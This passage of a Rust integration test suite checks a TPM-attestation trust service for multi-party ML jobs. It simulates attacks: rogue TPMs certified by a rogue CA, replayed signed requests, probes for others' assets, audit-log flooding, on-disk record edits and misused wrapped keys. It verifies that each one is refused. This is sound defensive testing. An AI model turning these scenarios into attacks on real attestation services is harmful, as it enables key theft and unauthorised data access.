    assert!(refused_reason(r).contains("/tmp/exfiltrate"));
    assert_eq!((w.job(&job).state, releases(&w, &job)), (JobState::Revoked, 0));
}

#[test]
fn revoked_expired_finished_and_silent_jobs_release_nothing() {
    let Some(mut w) = World::new() else { return };

    // Revoked by an owner before the worker attested.
    let job = w.ready_job("revoked");
    let claimed = w.worker().claim(&job).unwrap();
    let _: JobInfo = w
        .client(Party::HospitalB)
        .call("POST", &format!("/v1/jobs/{job}/revoke"), Some(&RevokeJob { reason: "consent withdrawn".into() }))
        .unwrap();
    let r = w.worker().attest(&job, &claimed.nonce);
    assert!(
        matches!(r, Err(perun_worker::WorkerError::Trust(ClientError::Api { code: ApiCode::Revoked, .. }))),
        "{:?}",
        r.map(|_| ())
    );
    assert!(!w.job(&job).released);

    // Expired before it was claimed.
    let mut m = w.manifest("expired");
    m.expires_at = m.created_at + 10;
    let job = w.propose(&m).id;
    for who in [Party::ModelOwner, Party::HospitalA, Party::HospitalB] {
        w.approve(who, &job).unwrap();
    }
    w.clock.fetch_add(11, Ordering::SeqCst);
    assert!(w.worker().offered().unwrap().iter().all(|o| o.id != job));
    let why = refused_reason(tr(w.worker().claim(&job)));
    assert!(why.contains("expired"), "{why}");
    assert_eq!(w.job(&job).state, JobState::Expired);
    w.assert_refused_and_audited(&job, "expired");

    // A worker that stops attesting: the job is revoked, then its outputs are refused.
    let job = w.ready_job("silent");
    let claimed = w.worker().claim(&job).unwrap();
    w.worker().attest(&job, &claimed.nonce).unwrap();
    w.clock.fetch_add(16, Ordering::SeqCst);
    assert_eq!(w.trust.sweep().unwrap(), 1);
    let info = w.job(&job);
    assert_eq!(info.state, JobState::Revoked);
    assert!(info.reason.unwrap().contains("missed attestation"));
    assert!(matches!(
        w.worker().nonce(&job),
        Err(perun_worker::WorkerError::Trust(ClientError::Api { code: ApiCode::Revoked, .. }))
    ));
    let r: Result<(), _> = w.worker().client().call(
        "POST",
        &format!("/v1/jobs/{job}/finish"),
        Some(&FinishJob { outputs: vec![], model_digest: None, privacy: None, attestation: None }),
    );
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::Revoked, .. })), "{r:?}");
}

#[test]
fn stakeholders_see_only_their_own_and_requests_cannot_be_replayed() {
    let Some(w) = World::new() else { return };
    // Another's asset answers as a missing one: its owner is not told.
    let r: Result<AssetInfo, _> = w.client(Party::HospitalB).call::<(), _>("GET", "/v1/assets/bc-a", None);
    let Err(ClientError::Api { code: ApiCode::NotFound, message: why, .. }) = r else {
        panic!("expected not found, got {r:?}")
    };
    assert!(!why.contains("hospital-a"), "{why}");
    let missing: Result<AssetInfo, _> = w.client(Party::HospitalB).call::<(), _>("GET", "/v1/assets/no-such", None);
    let Err(ClientError::Api { code: ApiCode::NotFound, message: why_missing, .. }) = missing else {
        panic!("{missing:?}")
    };
    assert_eq!(why.replace("bc-a", "no-such"), why_missing, "an existing asset must read as a missing one");
    // A proposer learns nothing of a registration from a manifest that misstates it.
    let mut m = w.manifest("misstated");
    m.data[0].content_digest = Digest::of(b"a guess");
    let r: Result<JobInfo, _> = w.client(Party::Mallory).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: m }));
    let Err(ClientError::Api { code: ApiCode::BadRequest, message: why, .. }) = r else { panic!("{r:?}") };
    assert!(!why.contains(&Digest::of(b"bc-a").to_string()), "{why}");
    // The same answer for a wrong owner, and for an asset that does not exist.
    for (asset, owner) in [("bc-a", "hospital-b"), ("zz-none", "hospital-a")] {
        let mut m = w.manifest("misstated");
        m.data[0].asset = name(asset);
        m.data[0].owner = name(owner);
        let r: Result<JobInfo, _> =
            w.client(Party::Mallory).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: m }));
        let Err(ClientError::Api { code: ApiCode::BadRequest, message: other, .. }) = r else { panic!("{r:?}") };
        assert_eq!(other.replace(asset, "bc-a"), why, "the answer tells {asset} of {owner} apart");
    }
    // Approving a job one is no party of answers as for a missing job, and writes no
    // record that would show its parties to the caller.
    let private = w.ready_job("unseen");
    let sig = sign_digest(w.people[Party::Mallory].signing_key(), APPROVAL_CONTEXT, &private);
    let r: Result<JobInfo, _> = w.client(Party::Mallory).call(
        "POST",
        &format!("/v1/jobs/{private}/approve"),
        Some(&ApproveJob { signature: sig }),
    );
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::NotFound, .. })), "{r:?}");
    let log: AuditLog = w.client(Party::Mallory).call::<(), _>("GET", "/v1/audit", None).unwrap();
    assert!(log.records.iter().filter_map(|v| v.body.as_ref()).all(|b| b.job != Some(private)), "mallory sees the job");
    let mine: AssetInfo = w.client(Party::HospitalA).call::<(), _>("GET", "/v1/assets/bc-a", None).unwrap();
    assert_eq!(mine.owner, name("hospital-a"));
    // A job one is not party to does not exist for one.
    let job = w.ready_job("private");
    let r: Result<JobInfo, _> = w.client(Party::Mallory).call::<(), _>("GET", &format!("/v1/jobs/{job}"), None);
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::NotFound, .. })));
    // A name is not taken over by another key.
    let imposter = StakeholderKeys::generate(name("hospital-a"));
    let r: Result<Registration, _> = w.as_person(&imposter).call(
        "POST",
        "/v1/stakeholders",
        Some(&RegisterStakeholder { identity: imposter.public(), roles: [Role::DataOwner].into() }),
    );
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::Conflict, .. })));

    // A signed request replayed byte for byte, and one with a stale time.
    let http = reqwest_free_replay(&w);
    assert!(http.contains("replayed"), "{http}");
}

/// Sends one signed request twice through the service's own logic (the same path the
/// HTTP layer takes) and returns the second answer's error.
fn reqwest_free_replay(w: &World) -> String {
    use perun_proto::auth::SignedHeaders;
    use perun_trust::service::stakeholders::RequestParts;
    let p = &w.people[Party::HospitalA];
    let t = w.clock.load(Ordering::SeqCst);
    let us = w.trust.keys().tls_fingerprint();
    let sh = SignedHeaders::sign(p.signing_key(), p.name(), &us, "GET", "/v1/assets", b"", t);
    let parts = RequestParts { method: "GET", path: "/v1/assets", body: b"" };
    w.trust.authenticate(&sh, parts).unwrap();
    let replay = w.trust.authenticate(&sh, parts).unwrap_err().to_string();
    // The same nonce in upper case is the same nonce.
    let mut upper = sh.clone();
    upper.nonce = upper.nonce.to_ascii_uppercase();
    assert!(w.trust.authenticate(&upper, parts).is_err());
    let stale = SignedHeaders::sign(p.signing_key(), p.name(), &us, "GET", "/v1/assets", b"", t - 301);
    assert!(w.trust.authenticate(&stale, parts).unwrap_err().to_string().contains("clock"));
    let other_path = RequestParts { method: "GET", path: "/v1/assets/bc-a", body: b"" };
    let fresh = SignedHeaders::sign(p.signing_key(), p.name(), &us, "GET", "/v1/assets", b"", t);
    assert!(w.trust.authenticate(&fresh, other_path).unwrap_err().to_string().contains("does not verify"));
    // A request signed for another Perun service does not verify at this one.
    let elsewhere = perun_core::Digest::of(b"another service's certificate");
    let other = SignedHeaders::sign(p.signing_key(), p.name(), &elsewhere, "GET", "/v1/assets", b"", t);
    assert!(w.trust.authenticate(&other, parts).unwrap_err().to_string().contains("does not verify"));
    replay
}

#[test]
fn the_checked_in_openapi_document_describes_every_route_the_service_serves() {
    let Some(w) = World::new() else { return };
    let served: serde_json::Value = w.anon.call::<(), _>("GET", "/v1/openapi.json", None).unwrap();
    let file: serde_json::Value = serde_json::from_str(include_str!("../openapi.json")).unwrap();
    assert_eq!(served, file);
    let paths = file["paths"].as_object().unwrap();
    assert!(paths.len() >= 20);
    for (path, ops) in paths {
        for method in ops.as_object().unwrap().keys() {
            let p = path.replace("{name}", "x").replace("{digest}", "x").replace("{id}", "x");
            let r: Result<serde_json::Value, ClientError> = w.anon.call::<(), _>(&method.to_uppercase(), &p, None);
            // Our handlers answer JSON errors; a route missing from the router would be
            // axum's bare 404 or 405, which the client reports as an unexpected answer.
            if let Err(ClientError::Unexpected { status, message }) = &r {
                assert!(*status != 404 && *status != 405, "{method} {path}: {status} {message}");
                continue;
            }
        }
    }
}

/// The number of keys the store records as released for `job`.
fn releases(w: &World, job: &Digest) -> usize {
    use perun_trust::store::TxExt as _;
    w.trust.store().read(|tx| tx.list::<perun_trust::records::ReleaseRecord>(&format!("{job}/"))).unwrap().len()
}

#[test]
fn only_genuine_tpms_of_the_jobs_provider_enrol_claim_and_get_keys() {
    let Some(mut w) = World::new() else { return };
    let job = w.ready_job("anchors");

    // The attack of issue 13: a software TPM certified by a CA of the attacker's own,
    // enrolled (by the provider, which has root on its hosts), claiming a ready job.
    let rogue_ca_dir = tempfile::tempdir().unwrap();
    let rogue_ca = LocalCa::at(rogue_ca_dir.path()).unwrap();
    let rogue_tpm = Swtpm::start_with(&rogue_ca).unwrap();
    let mut rogue = Platform::user_space(Tpm::connect(&rogue_tpm.tcti(), KeyAlg::Rsa).unwrap()).unwrap();
    let body = rogue.enrolment(name("rogue")).unwrap();

    // A stakeholder without the provider role cannot enrol it, nor publish a policy.
    let r: Result<WorkerInfo, _> = w.client(Party::Mallory).call("POST", "/v1/workers", Some(&body));
    assert!(refused_reason(r).contains("enrolling a worker is for a provider"));
    let p = serde_json::to_vec(&PlatformPolicy { schema: perun_attest::policy::POLICY_SCHEMA, ..Default::default() })
        .unwrap();
    let r: Result<PolicyInfo, _> = w.client(Party::Mallory).call_raw("POST", "/v1/policies", p);
    assert!(refused_reason(r).contains("publishing a policy is for a provider"));

    // An EK without a certificate, and a certificate of another EK, are refused.
    let mut bare = body.clone();
    bare.ek_certificate.clear();
    let r: Result<WorkerInfo, _> = w.client(Party::Infra).call("POST", "/v1/workers", Some(&bare));
    assert!(
        matches!(&r, Err(ClientError::Api { code: ApiCode::BadRequest, message: m, .. }) if m.contains("EK certificate is required")),
        "{r:?}"
    );
    let mut other = body.clone();
    other.ek_certificate = w.worker().platform().tpm().ek_certificate().unwrap();
    let r: Result<WorkerInfo, _> = w.client(Party::Infra).call("POST", "/v1/workers", Some(&other));
    assert!(
        matches!(&r, Err(ClientError::Api { code: ApiCode::BadRequest, message: m, .. }) if m.contains("certifies another key")),
        "{r:?}"
    );

    // The provider enrols it; its AK activates (it is a TPM), but the job's policy does
    // not list its CA: the claim is refused and the job stays ready with nothing released.
    let _: WorkerInfo = w.client(Party::Infra).call("POST", "/v1/workers", Some(&body)).unwrap();
    let agent = Agent::enrol(&w.anon, name("rogue"), rogue, KeyAlg::Rsa).unwrap();
    let why = refused_reason(tr(agent.claim(&job)));
    assert!(why.contains("not one this job's policy trusts") && why.contains("does not chain"), "{why}");
    assert_eq!(w.job(&job).state, JobState::Ready);
    assert_eq!(releases(&w, &job), 0);
    w.assert_refused_and_audited(&job, "does not chain to a root this policy lists");

    // One EK is one worker: gpu-1's EK cannot be enrolled again under another name...
    let again = w.worker().platform().enrolment(name("gpu-1-twin")).unwrap();
    let r: Result<WorkerInfo, _> = w.client(Party::Infra).call("POST", "/v1/workers", Some(&again));
    assert!(
        matches!(&r, Err(ClientError::Api { code: ApiCode::Conflict, message: m, .. }) if m.contains("one TPM is one worker")),
        "{r:?}"
    );
    // ... nor with its public area spelled another way (exponent 65537 written out
    // instead of the template's 0): the same key is the same TPM.
    let mut respelled = again.clone();
    let mut tpmt = perun_attest::tpm::AkPublic::parse(&again.ek_public).unwrap().tpmt;
    let policy_len = u16::from_be_bytes([tpmt[8], tpmt[9]]) as usize;
    let exponent = 10 + policy_len + 6 + 2 + 2;
    assert_eq!(tpmt[exponent..exponent + 4], [0, 0, 0, 0]);
    tpmt[exponent..exponent + 4].copy_from_slice(&65537u32.to_be_bytes());
    respelled.ek_public = tpmt;
    let r: Result<WorkerInfo, _> = w.client(Party::Infra).call("POST", "/v1/workers", Some(&respelled));
    assert!(
        matches!(&r, Err(ClientError::Api { code: ApiCode::Conflict, message: m, .. }) if m.contains("one TPM is one worker")),
        "{r:?}"
    );

    // A worker of another provider sees no job of infra's and cannot claim one.
    let other_provider = StakeholderKeys::generate(name("infra-2"));
    let c = w.as_person(&other_provider);
    let reg = RegisterStakeholder { identity: other_provider.public(), roles: [Role::Provider].into() };
    c.call::<_, Registration>("POST", "/v1/stakeholders", Some(&reg)).unwrap();
    w.trust.admit(other_provider.name(), &other_provider.public().fingerprint()).unwrap();
    let t3 = Swtpm::start().unwrap();
    let mut p3 = Platform::user_space(Tpm::connect(&t3.tcti(), KeyAlg::Rsa).unwrap()).unwrap();
    let _: WorkerInfo = c.call("POST", "/v1/workers", Some(&p3.enrolment(name("gpu-9")).unwrap())).unwrap();
    let a3 = Agent::enrol(&w.anon, name("gpu-9"), p3, KeyAlg::Rsa).unwrap();
    assert!(a3.offered().unwrap().is_empty());
    let why = refused_reason(tr(a3.claim(&job)));
    assert!(why.contains("runs on infra's workers"), "{why}");
    assert_eq!(releases(&w, &job), 0);

    // A job naming its workers is offered to those only.
    let mut m = w.manifest("named");
    m.workers = ["gpu-7".to_owned()].into();
    let named = w.ready(&m);
    assert!(!w.worker().offered().unwrap().iter().any(|o| o.id == named));
    let why = refused_reason(tr(w.worker().claim(&named)));
    assert!(why.contains("does not name worker gpu-1"), "{why}");
    let mut m = w.manifest("named-by-ek");
    let info: Vec<WorkerInfo> = w.client(Party::Infra).call::<(), _>("GET", "/v1/workers", None).unwrap();
    let gpu1 = info.iter().find(|i| i.name == name("gpu-1")).unwrap();
    assert!(gpu1.ek_issuer.contains("swtpm-localca"), "{}", gpu1.ek_issuer);
    m.workers = [gpu1.ek_digest.to_string()].into();
    let by_ek = w.ready(&m);
    assert!(w.worker().offered().unwrap().iter().any(|o| o.id == by_ek));

    // The genuine worker gets the anchored job's keys.
    let claimed = w.worker().claim(&job).unwrap();
    let (_, answer) = w.worker().attest(&job, &claimed.nonce).unwrap();
    assert_eq!(answer.keys.len(), 3);
    let audit = w.audit(Party::Infra);
    assert!(
        audit
            .iter()
            .any(|(k, d)| *k == AuditKind::AttestationAccepted && d.contains("ek_certified_by=CN=swtpm-localca")),
        "{audit:?}"
    );

    // De-enrolled, gpu-1 is refused, its running job revoked; its EK may enrol again.
    let _: WorkerInfo = w.client(Party::Infra).call::<(), _>("DELETE", "/v1/workers/gpu-1", None).unwrap();
    assert_eq!(w.job(&job).state, JobState::Revoked);
    let r = w.worker().nonce(&job);
    assert!(refused_reason(tr(r)).contains("de-enrolled"));
    let r: Result<WorkerInfo, _> = w.client(Party::Mallory).call::<(), _>("DELETE", "/v1/workers/rogue", None);
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::NotFound, .. })), "only its provider de-enrols a worker");
    let _: WorkerInfo = w.client(Party::Infra).call("POST", "/v1/workers", Some(&again)).unwrap();
}

#[test]
fn boot_state_other_than_the_policys_releases_nothing() {
    let Some(mut w) = World::new() else { return };
    // A policy pinning PCR 0 to another firmware's value (as if the worker booted other
    // firmware than the reference machine's).
    let mut policy: PlatformPolicy =
        w.worker().platform().development_policy("other firmware", &LocalCa::for_process().unwrap()).unwrap();
    policy.required_pcrs.insert(0, hex::encode([0xab; 32]));
    let added: PolicyInfo =
        w.client(Party::Infra).call_raw("POST", "/v1/policies", serde_json::to_vec(&policy).unwrap()).unwrap();
    let mut m = w.manifest("firmware");
    m.platform_policy = added.digest;
    let job = w.ready(&m);
    let claimed = w.worker().claim(&job).unwrap();
    let why = refused_reason(tr(w.worker().attest(&job, &claimed.nonce).map(|_| ())));
    assert!(why.contains("PCR 0 is") && why.contains("policy requires abab"), "{why}");
    assert_eq!(w.job(&job).state, JobState::Revoked);
    assert_eq!(releases(&w, &job), 0);

    // A policy that leaves a boot PCR unpinned cannot tell what booted: not published.
    policy.required_pcrs.remove(&9);
    let r: Result<PolicyInfo, _> =
        w.client(Party::Infra).call_raw("POST", "/v1/policies", serde_json::to_vec(&policy).unwrap());
    assert!(
        matches!(&r, Err(ClientError::Api { code: ApiCode::BadRequest, message: why, .. }) if why.contains("incomplete") && why.contains("what booted")),
        "{r:?}"
    );
    let r = w.client(Party::Infra).call::<(), PolicyInfo>("GET", &format!("/v1/policies/{}", policy.digest()), None);
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::NotFound, .. })), "{r:?}");
}

/// Anonymous callers (the enrolment steps need no account) can neither change a worker's
/// state nor grow the audit log with text of their choosing.
#[test]
fn anonymous_callers_cannot_block_enrolment_or_fill_the_audit_log() {
    let Some(w) = World::new() else { return };
    let audit_len = |w: &World| {
        let log: AuditLog = w.client(Party::Infra).call::<(), _>("GET", "/v1/audit", None).unwrap();
        log.records.len()
    };
    // A second TPM is enrolled by its provider; its real activation is under way.
    let tpm2 = Swtpm::start().unwrap();
    let mut t2 = Tpm::connect(&tpm2.tcti(), KeyAlg::Rsa).unwrap();
    let ak2 = t2.create_ak(KeyAlg::Rsa).unwrap();
    w.enrol_by_infra("gpu-2", &mut t2);
    let present = PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: ak2.public.clone() };
    let ch: CredentialChallenge = w.anon.call("POST", "/v1/workers/gpu-2/ak", Some(&present)).unwrap();

    // Meanwhile an attacker presents its own AK under gpu-2's (public) EK, and sends a
    // junk activation: neither touches what the real activation needs.
    let rogue_tpm = Swtpm::start().unwrap();
    let mut rogue = Tpm::connect(&rogue_tpm.tcti(), KeyAlg::Rsa).unwrap();
    let rogue_ak = rogue.create_ak(KeyAlg::Rsa).unwrap();
    let theirs = PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: rogue_ak.public.clone() };
    let rogue_ch: CredentialChallenge = w.anon.call("POST", "/v1/workers/gpu-2/ak", Some(&theirs)).unwrap();
    // It cannot recover that credential: only gpu-2's TPM holds the EK.
    assert!(rogue.activate_credential(&rogue_ch.credential_blob, &rogue_ch.secret).is_err());
    let junk =
        ActivateAk { credential: vec![0; 32], ak_public: rogue_ak.public.clone(), issued_at: rogue_ch.issued_at };
    let r: Result<(), _> = w.anon.call("POST", "/v1/workers/gpu-2/activate", Some(&junk));
    assert!(refused_reason(r).contains("did not recover"));
    let junk = ActivateAk { credential: vec![0; 32], ak_public: ak2.public.clone(), issued_at: ch.issued_at };
    let r: Result<(), _> = w.anon.call("POST", "/v1/workers/gpu-2/activate", Some(&junk));
    assert!(refused_reason(r).contains("did not recover"));
    // The real worker's activation still succeeds, and its token works.
    let credential = t2.activate_credential(&ch.credential_blob, &ch.secret).unwrap();
    let real = ActivateAk { credential: credential.clone(), ak_public: ak2.public.clone(), issued_at: ch.issued_at };
    w.anon.call::<_, ()>("POST", "/v1/workers/gpu-2/activate", Some(&real)).unwrap();
    let as_gpu2 =
        w.anon.with_caller(Caller::Worker { name: name("gpu-2"), token: zeroize::Zeroizing::new(credential) });
    let _: Vec<OfferedJob> = as_gpu2.call::<(), _>("GET", "/v1/worker/jobs", None).unwrap();
    // A challenge answered with another AK than the one it was made for is refused.
    let swapped = ActivateAk { ak_public: rogue_ak.public.clone(), ..real };
    let r: Result<(), _> = w.anon.call("POST", "/v1/workers/gpu-2/activate", Some(&swapped));
    assert!(refused_reason(r).contains("did not recover"));

    // 300 requests naming workers with 60,000-character names: refused as malformed,
    // nothing written.
    let before = audit_len(&w);
    let long = "x".repeat(60_000);
    for _ in 0..300 {
        let r: Result<CredentialChallenge, _> = w.anon.call("POST", &format!("/v1/workers/{long}/ak"), Some(&present));
        assert!(matches!(r, Err(ClientError::Api { code: ApiCode::BadRequest, .. })), "{r:?}");
    }
    let r: Result<(), _> = w.anon.call("POST", &format!("/v1/workers/{long}/activate"), Some(&junk_for(&ch)));
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::BadRequest, .. })), "{r:?}");
    // Unknown (valid) names are refused without a record either.
    for i in 0..50 {
        let r: Result<CredentialChallenge, _> =
            w.anon.call("POST", &format!("/v1/workers/nobody-{i}/ak"), Some(&present));
        assert!(refused_reason(r).contains("not enrolled"));
    }
    assert_eq!(audit_len(&w), before, "no anonymous refusal of an unknown name may be audited");

    // Refusals naming a real worker are audited for its provider, but at most 60 a
    // minute: past that they answer 429 and write nothing.
    let mut limited = 0;
    for _ in 0..100 {
        let r: Result<(), _> = w.anon.call("POST", "/v1/workers/gpu-2/activate", Some(&junk_for(&ch)));
        match r {
            Err(ClientError::Api { code: ApiCode::TooManyRequests, .. }) => limited += 1,
            other => assert!(refused_reason(other).contains("did not recover")),
        }
    }
    assert!(limited >= 30, "the rate limit must answer 429 past its quota ({limited} of 100)");
    let grown = audit_len(&w) - before;
    assert!(grown <= 70, "audited anonymous refusals are bounded by the rate limit: {grown}");
}

fn junk_for(ch: &CredentialChallenge) -> ActivateAk {
    ActivateAk { credential: vec![1; 32], ak_public: vec![0; 8], issued_at: ch.issued_at }
}

/// Times and sizes from input cannot overflow a deadline or grow the store without
/// bound: a manifest with a huge attestation interval is refused at proposal (it once
/// overflowed the deadline sweep inside the store's write lock and poisoned it), and
/// a worker's metric records are bounded in epochs, count, names and values.
#[test]
fn input_times_and_sizes_are_bounded_and_the_service_carries_on() {
    let Some(mut w) = World::new() else { return };
    for interval in [u64::MAX, u64::MAX / 2, 0] {
        let mut m = w.manifest(&format!("interval-{interval}"));
        m.attestation_interval_s = interval;
        let r: Result<JobInfo, _> =
            w.client(Party::ModelOwner).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: m }));
        let Err(ClientError::Api { code: ApiCode::BadRequest, message: why, .. }) = r else { panic!("{r:?}") };
        assert!(why.contains("attestation_interval_s"), "{why}");
    }
    let mut m = w.manifest("far-future");
    m.expires_at = u64::MAX;
    let r: Result<JobInfo, _> = w.client(Party::ModelOwner).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: m }));
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::BadRequest, .. })), "{r:?}");
    // The sweep and every later request still work.
    w.trust.sweep().unwrap();
    let job = w.ready_job("after");
    let claimed = w.worker().claim(&job).unwrap();
    w.worker().attest(&job, &claimed.nonce).unwrap();

    let report = |w: &mut World, epoch: u32, values: serde_json::Value| -> Result<(), ClientError> {
        let values = values.as_object().unwrap().clone();
        w.worker().client().call("POST", &format!("/v1/jobs/{job}/metrics"), Some(&ReportMetrics { epoch, values }))
    };
    report(&mut w, 1, serde_json::json!({ "train_loss": 0.5 })).unwrap();
    let many: serde_json::Map<String, serde_json::Value> =
        (0..17).map(|i| (format!("m{i}"), serde_json::json!(1.0))).collect();
    for (epoch, values, needle) in [
        (100_001, serde_json::json!({ "train_loss": 0.5 }), "epoch"),
        (2, serde_json::Value::Object(many), "at most 16"),
        (2, serde_json::json!({ "x".repeat(65): 1.0 }), "name"),
        (2, serde_json::json!({ "Loss Value": 1.0 }), "name"),
        (2, serde_json::json!({ "train_loss": "a long text" }), "finite number"),
    ] {
        let r = report(&mut w, epoch, values);
        let Err(ClientError::Api { code: ApiCode::BadRequest, message: why, .. }) = r else { panic!("{r:?}") };
        assert!(why.contains(needle), "{needle}: {why}");
    }
    let m: JobMetrics =
        w.client(Party::HospitalA).call::<(), _>("GET", &format!("/v1/jobs/{job}/metrics"), None).unwrap();
    assert_eq!(m.epochs.len(), 1);
}

/// Anyone may register, but not without bound: past 60 registrations a minute the
/// service answers 429 and stores nothing more.
#[test]
fn registrations_are_rate_limited() {
    let Some(w) = World::new() else { return };
    let mut limited = 0;
    for i in 0..80 {
        let p = StakeholderKeys::generate(name(&format!("spam-{i}")));
        let body = RegisterStakeholder { identity: p.public(), roles: [Role::Provider].into() };
        match w.as_person(&p).call::<_, Registration>("POST", "/v1/stakeholders", Some(&body)) {
            Ok(_) => {}
            Err(ClientError::Api { code: ApiCode::TooManyRequests, .. }) => limited += 1,
            Err(e) => panic!("{e}"),
        }
    }
    // The world registered five already; a second or two refills one or two more.
    assert!(limited >= 20, "{limited} of 80 registrations were limited");
}

/// A manifest or policy edited in the store (by whoever holds the service's disk) no
/// longer hashes to the digest approvals signed: nothing is decided on it, nothing released.
#[test]
fn records_edited_in_the_store_are_refused() {
    let Some(mut w) = World::new() else { return };
    use perun_trust::store::Table;
    let edit = |w: &World, table: Table, key: &str, from: &str, to: &str| {
        w.trust
            .store()
            .write(|tx| {
                let raw = String::from_utf8(tx.get_raw(table, key)?.unwrap()).unwrap();
                assert!(raw.contains(from), "{raw}");
                tx.put_raw(table, key, raw.replace(from, to).as_bytes(), None)
            })
            .unwrap();
    };
    // An approved job whose stored manifest is edited (another receiver) is not claimed.
    let job = w.ready_job("edited");
    edit(&w, Table::Jobs, &job.to_string(), "\"receivers\":[\"model-owner\"]", "\"receivers\":[\"mallory\"]");
    let r = w.worker().claim(&job);
    assert!(r.is_err(), "a job with an edited manifest was claimed");
    let released = w.trust.store().read(|tx| {
        use perun_trust::store::TxExt as _;
        tx.list::<perun_trust::records::ReleaseRecord>(&format!("{job}/"))
    });
    assert!(released.unwrap().is_empty());
    // An edited policy is neither served nor used.
    let policy = w.policy.to_string();
    edit(&w, Table::Policies, &policy, "swtpm dev worker", "edited on disk");
    let r: Result<PolicyInfo, _> =
        w.client(Party::HospitalA).call::<(), _>("GET", &format!("/v1/policies/{policy}"), None);
    assert!(r.is_err(), "an edited policy was served: {r:?}");
    let r: Result<JobInfo, _> =
        w.client(Party::ModelOwner).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: w.manifest("after-edit") }));
    assert!(r.is_err(), "a job was proposed on an edited policy");
}

/// Issue 31: a wrapped asset key is bound to its owner, asset, kind and content. Mallory
/// registering an asset under its own name with a key hospital-a wrapped for its data set
/// is refused, and so is hospital-a's own key under another name or content: the service
/// unwraps no key for a registration it was not made for.
#[test]
fn an_asset_key_wrapped_for_one_registration_opens_for_no_other() {
    let Some(w) = World::new() else { return };
    let info: ServiceInfo = w.anon.call::<(), _>("GET", "/v1/service", None).unwrap();
    let recipient = perun_seal::keys::parse_recipient(&info.wrap_recipient).unwrap();
    let key = AssetKey::generate();
    let digest = Digest::of(b"hospital-a's records");
    let made_for =
        WrapContext::asset_key(w.people[Party::HospitalA].name(), &name("scans"), AssetKind::Dataset, &digest);
    let wrapped = perun_seal::wrap::wrap(key.to_secret_string().as_bytes(), &recipient, &made_for).unwrap();
    let body = |asset: &str, content: Digest| RegisterAsset {
        terms: None,
        name: name(asset),
        kind: AssetKind::Dataset,
        content_digest: content,
        location: format!("/data/{asset}.sealed"),
        wrapped_key: wrapped.clone(),
        recipient: key.recipient().to_string(),
    };
    let register = |who: Party, b: &RegisterAsset| w.client(who).call::<_, AssetInfo>("POST", "/v1/assets", Some(b));
    for (who, b) in [
        (Party::Mallory, body("scans", digest)),
        (Party::Mallory, body("stolen", digest)),
        (Party::HospitalA, body("scans2", digest)),
        (Party::HospitalA, body("scans", Digest::of(b"other content"))),
    ] {
        let r = register(who, &b);
        assert!(
            matches!(&r, Err(ClientError::Api { code: ApiCode::BadRequest, message: m, .. }) if m.contains("was not made for")),
            "{r:?}"
        );
    }
    // The registration it was made for goes through.
    register(Party::HospitalA, &body("scans", digest)).unwrap();
}

/// Registers `asset` (a data set of hospital-a) with `terms` signed by `signer`.
fn register_with_terms(
    w: &World,
    asset: &str,
    terms: perun_core::AssetTerms,
    signer: Party,
) -> Result<AssetInfo, ClientError> {
    let info: ServiceInfo = w.anon.call::<(), _>("GET", "/v1/service", None).unwrap();
    let recipient = perun_seal::keys::parse_recipient(&info.wrap_recipient).unwrap();
    let key = AssetKey::generate();
    let signature = sign_digest(w.people[signer].signing_key(), perun_core::terms::TERMS_CONTEXT, &terms.digest());
    let body = RegisterAsset {
        terms: Some(perun_core::SignedTerms { terms, signature }),
        name: name(asset),
        kind: AssetKind::Dataset,
        content_digest: Digest::of(asset.as_bytes()),
        location: format!("/data/{asset}.sealed"),
        wrapped_key: perun_seal::wrap::wrap(
            key.to_secret_string().as_bytes(),
            &recipient,
            &WrapContext::asset_key(
                w.people[Party::HospitalA].name(),
                &name(asset),
                AssetKind::Dataset,
                &Digest::of(asset.as_bytes()),
            ),
        )
        .unwrap(),
        recipient: key.recipient().to_string(),
    };
    w.client(Party::HospitalA).call("POST", "/v1/assets", Some(&body))
}

fn terms_for(asset: &str) -> perun_core::AssetTerms {
    perun_core::AssetTerms {
        asset: name(asset),
        content_digest: Digest::of(asset.as_bytes()),
        expires_at: None,
        max_jobs: None,
        modes: Default::default(),
        receivers: Default::default(),
        review: false,
        privacy: None,
    }
}

/// A manifest of the model on hospital-a's `asset` alone, at `epsilon` (none: no DP).
fn manifest_on(w: &World, asset: &str, tag: &str, epsilon: Option<f64>) -> JobManifest {
    let mut m = w.manifest(tag);
    m.data = vec![AssetRef {
        asset: name(asset),
        owner: name("hospital-a"),
        kind: AssetKind::Dataset,
        content_digest: Digest::of(asset.as_bytes()),
    }];
    m.privacy = epsilon.map(|epsilon| perun_core::DpTarget { epsilon, delta: 1e-5, max_grad_norm: 1.0 });
    m
}

fn propose_approved(w: &World, m: &JobManifest) -> Result<Digest, ClientError> {
    let job: JobInfo =
        w.client(Party::ModelOwner).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: m.clone() }))?;
    for who in [Party::ModelOwner, Party::HospitalA] {
        w.approve(who, &job.id)?;
    }
    Ok(job.id)
}

fn terms_refusal(r: Result<impl std::fmt::Debug, ClientError>) -> String {
    match r {
        Err(ClientError::Api { code: ApiCode::TermsRefused, message: m, .. }) => m,
        other => panic!("expected a refusal by the terms, got {other:?}"),
    }
}

#[test]
fn asset_terms_refuse_jobs_that_break_them_at_proposal_and_again_at_release() {
    let Some(mut w) = World::new() else { return };
    let mut terms = terms_for("bc-t");
    terms.max_jobs = Some(3);
    terms.modes = [JobMode::Attested].into();
    terms.receivers = [name("model-owner")].into();
    terms.privacy = Some(perun_core::PrivacyBudget { epsilon_per_job: 3.0, delta: 1e-5, total_epsilon: 4.0 });

    // Terms signed by another key, or naming another asset, are refused at registration.
    let forged = register_with_terms(&w, "bc-t", terms.clone(), Party::Mallory);
    assert!(
        matches!(forged, Err(ClientError::Api { code: ApiCode::BadRequest, message: m, .. }) if m.contains("not signed"))
    );
